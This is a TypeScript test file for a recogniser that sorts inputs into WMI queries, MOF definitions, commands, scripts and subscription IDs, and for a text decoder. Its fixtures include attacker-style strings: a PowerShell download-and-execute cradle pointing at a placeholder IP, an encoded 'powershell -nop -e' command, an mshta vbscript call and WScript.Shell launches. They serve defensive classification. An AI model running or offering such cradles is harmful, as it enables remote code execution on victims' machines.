import { describe, expect, it } from "vitest";
import { decodeText } from "./input-text.ts";
import { recogniseInput, scriptLanguage } from "./recognise-input.ts";

const kindOf = (text: string) => recogniseInput({ source: "argument", bytes: undefined, text });

describe("recogniseInput", () => {
  it.each([
    ["query", "SELECT * FROM Win32_ProcessStartTrace"],
    ["query", "\n  select Name from __InstanceCreationEvent within 5where TargetInstance isa 'X'"],
    ["query", "ASSOCIATORS OF {Win32_Service.Name='x'}"],
    ["mof", 'instance of __EventFilter { Name = "x"; };'],
    ["mof", '#pragma namespace("\\\\\\\\.\\\\root\\\\subscription")\nclass X { };'],
    [
      "mof",
      "Namespace = //./root/subscription; PossibleCause = Binding EventFilter:\ninstance of __EventFilter\n{\n};",
    ],
    ["mof", "// a comment\n/* and another */\ninstance of __EventFilter { };"],
    ["script", "// a comment\nvar a = 1;"],
    ["mof", "class Own_Consumer : __EventConsumer\n{\n};"],
    ["command", "powershell.exe -nop -e SQBFAFgA"],
    ["command", "C:\\Windows\\System32\\cmd.exe /c start"],
    ["command", '"C:\\Program Files\\x\\y.exe" /q'],
    ["command", "%COMSPEC% /c set x=CreateObject("],
    ["command", "mshta vbscript:CreateObject(1)"],
    ["command", "whoami"],
    ["command", "selected.exe x"],
    ["script", 'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"'],
    ["script", "' a comment\nx = 1"],
    ["script", "var s = new ActiveXObject('WScript.Shell');"],
    ["script", "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/')"],
    ["script", '$mof = @"\ninstance of __EventFilter { };\n"@'],
    ["script", "[System.Text.Encoding]::UTF8.GetString(1)"],
    ["mof", "[abstract]\nclass A\n{ };"],
    ["script", "a = 1\nb = 2"],
    ["subscription", " sub-0123456789abcdef\n"],
    ["command", "sub-0123456789abcdefg"],
  ])("%s: %s", (kind, text) => {
    expect(kindOf(text)).toBe(kind);
  });

  it("knows binary MOF by its bytes, and ends at once for bait", () => {
    const bytes = new Uint8Array(20);
    bytes.set([0x46, 0x4f, 0x4d, 0x42, 1]);
    expect(recogniseInput({ source: "x", bytes, text: "FOMB" })).toBe("mof");
    for (const bait of ["\n", "$a", "$", "class ", " ", "instance ", "[", "a."]) {
      expect(["command", "script"]).toContain(kindOf(bait.repeat(40_000)));
    }
  });
});

describe("scriptLanguage", () => {
  it.each([
    ["vbscript", 'Set s = CreateObject("x")'],
    ["jscript", "var a = new ActiveXObject('x'); a.b();"],
    ["powershell", "$a = New-Object Net.WebClient; $a.x"],
    ["vbscript", "x"],
  ])("%s: %s", (language, text) => {
    expect(scriptLanguage(text)).toBe(language);
  });
});

describe("decodeText", () => {
  const utf16 = (text: string) => [...text].flatMap((char) => [char.charCodeAt(0) & 255, char.charCodeAt(0) >> 8]);

  it.each([
    ["UTF-8", [0x73, 0xc3, 0xa9], "s\u00e9"],
    ["UTF-8 with a mark", [0xef, 0xbb, 0xbf, 0x73], "s"],
    ["UTF-16LE with a mark", [0xff, 0xfe, 0x73, 0], "s"],
    ["UTF-16BE with a mark", [0xfe, 0xff, 0, 0x73], "s"],
    ["UTF-16LE", utf16("select"), "select"],
    ["UTF-16BE", [0, ...utf16("select").slice(0, -1)], "select"],
    ["code page 1252", [0x73, 0xe9], "s\u00e9"],
  ])("%s", (_, bytes, text) => {
    expect(decodeText(Uint8Array.from(bytes))).toBe(text);
  });
});
